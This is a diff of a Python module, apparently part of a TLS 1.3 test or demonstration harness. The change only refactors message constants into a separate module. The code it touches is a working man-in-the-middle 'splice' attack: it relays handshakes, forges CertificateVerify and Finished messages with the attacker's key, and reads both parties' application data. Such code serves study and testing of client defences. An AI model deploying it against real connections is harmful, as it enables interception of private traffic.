@@ -21,9 +21,11 @@ from cryptography.hazmat.primitives.serialization import load_pem_private_key
 import tls13
 from party import Party
 
+import messages  # of peers/python, where tls13 has it from
+
 CONTEXT = b"TLS 1.3, server CertificateVerify"
 ECDSA_P256 = b"\x04\x03"
-EMPTY_EXTENSIONS = tls13.message(8, b"\0\0")  # EncryptedExtensions
+EMPTY_EXTENSIONS = messages.message(messages.ENCRYPTED_EXTENSIONS, b"\0\0")
 
 
 class Splice:
@@ -60,13 +62,13 @@ class Splice:
 
     def run(self) -> None:
         """The whole attack."""
-        hello, records = tls13.read_hello(self.client, tls13.CLIENT_HELLO)
+        hello, records = tls13.read_hello(self.client, messages.CLIENT_HELLO)
         self.server.sendall(records)
-        answer, records = tls13.read_hello(self.server, tls13.SERVER_HELLO)
+        answer, records = tls13.read_hello(self.server, messages.SERVER_HELLO)
         self.client.sendall(records)
         self.suite = tls13.SUITES[tls13.chosen_suite(answer)]
         self.hellos = hello + answer
-        random = hello[tls13.RANDOM_AT : tls13.RANDOM_AT + 32]
+        random = hello[messages.RANDOM_AT : messages.RANDOM_AT + 32]
         self.secret = self._handshake_secret(random, self.suite.size)
         self.from_client_hs = self.suite.derive(self.secret, b"c hs traffic", self.hellos)
         self.from_server_hs = self.suite.derive(self.secret, b"s hs traffic", self.hellos)
@@ -75,7 +77,7 @@ class Splice:
         except InvalidTag:
             self.party.step("flight-unread", "without the secret it cannot be read")
             sealed = tls13.Direction(self.suite, self.from_server_hs)
-            self.client.sendall(sealed.seal(tls13.HANDSHAKE, EMPTY_EXTENSIONS))
+            self.client.sendall(sealed.seal(messages.HANDSHAKE, EMPTY_EXTENSIONS))
             self.party.step("flight-sent", "sends a flight of its own under a guessed secret")
             self._alert()
             return
@@ -96,31 +98,33 @@ class Splice:
             record = tls13.read_record(self.server)
             if record is None:
                 raise ValueError("expected the server's flight, came the end of the stream")
-            if record[0] == tls13.CHANGE_CIPHER_SPEC:
+            if record[0] == messages.CHANGE_CIPHER_SPEC:
                 continue
             flight += opened.open(record)[1]
             found = tls13.messages(flight)
-            if found and found[-1][0] == tls13.FINISHED:
+            if found and found[-1][0] == messages.FINISHED:
                 return flight
 
     def _signed(self, before: bytes) -> bytes:
         """A CertificateVerify of the attacker's (RFC 8446 4.4.3)."""
         content = b" " * 64 + CONTEXT + b"\0" + self.suite.hash(before)
         signature = self._key().sign(content, ec.ECDSA(SHA256()))
-        return tls13.message(tls13.CERTIFICATE_VERIFY, ECDSA_P256 + tls13.vector(2, signature))
+        return messages.message(
+            messages.CERTIFICATE_VERIFY, ECDSA_P256 + messages.vector(2, signature)
+        )
 
     def _attack(self, flight: bytes) -> None:
         suite, genuine = self.suite, self.hellos + flight
         own = self.hellos
         for one in tls13.messages(flight):
-            if one[0] == tls13.CERTIFICATE_VERIFY:
+            if one[0] == messages.CERTIFICATE_VERIFY:
                 one = self._signed(own)
-            elif one[0] == tls13.FINISHED:
+            elif one[0] == messages.FINISHED:
                 one = suite.finished(self.from_server_hs, own)
             own += one
         sealed = tls13.Direction(suite, self.from_server_hs)
         self.client.sendall(tls13.DUMMY_CHANGE_CIPHER_SPEC)
-        self.client.sendall(sealed.seal(tls13.HANDSHAKE, own[len(self.hellos) :]))
+        self.client.sendall(sealed.seal(messages.HANDSHAKE, own[len(self.hellos) :]))
         kinds = ", ".join(str(one[0]) for one in tls13.messages(flight))
         words = f"the genuine flight (messages {kinds}), CertificateVerify and Finished made anew"
         self.party.step("flight-sent", words)
@@ -133,7 +137,7 @@ class Splice:
         # Towards the genuine server: its client's Finished, over its own transcript.
         finished = suite.finished(self.from_client_hs, genuine)
         hs = tls13.Direction(suite, self.from_client_hs)
-        self.server.sendall(tls13.DUMMY_CHANGE_CIPHER_SPEC + hs.seal(tls13.HANDSHAKE, finished))
+        self.server.sendall(tls13.DUMMY_CHANGE_CIPHER_SPEC + hs.seal(messages.HANDSHAKE, finished))
         back = threading.Thread(
             target=self._pump,
             args=(self.server, self.client, keys["server-server"], keys["client-server"], "server"),
@@ -153,16 +157,16 @@ class Splice:
             record = tls13.read_record(self.client)
             if record is None:
                 return False
-            if record[0] == tls13.CHANGE_CIPHER_SPEC:
+            if record[0] == messages.CHANGE_CIPHER_SPEC:
                 continue
-            if record[0] == tls13.ALERT:
+            if record[0] == messages.ALERT:
                 self.party.step("alert", "the client refuses, in the clear", record[5:])
                 return False
             kind, data = opened.open(record)
-            if kind == tls13.ALERT:
+            if kind == messages.ALERT:
                 self.party.step("alert", "the client refuses", data)
                 return False
-            if data[:1] == bytes([tls13.FINISHED]):
+            if data[:1] == bytes([messages.FINISHED]):
                 self.party.step("client-finished", "the client has taken the flight")
                 return True
 
@@ -180,14 +184,14 @@ class Splice:
                 record = tls13.read_record(source)
                 if record is None:
                     return
-                if record[0] != tls13.APPLICATION_DATA:
+                if record[0] != messages.APPLICATION_DATA:
                     continue
                 kind, data = opened.open(record)
-                if kind == tls13.APPLICATION_DATA:
+                if kind == messages.APPLICATION_DATA:
                     words = f"reads {len(data)} bytes of the {whose}'s application data"
                     self.party.step("read", words, data[:64])
                 sink.sendall(sealed.seal(kind, data))
-                if kind == tls13.ALERT:
+                if kind == messages.ALERT:
                     return
         except (OSError, InvalidTag, ValueError) as problem:
             self.party.step("ended", f"the {whose}'s stream ends: {type(problem).__name__}")
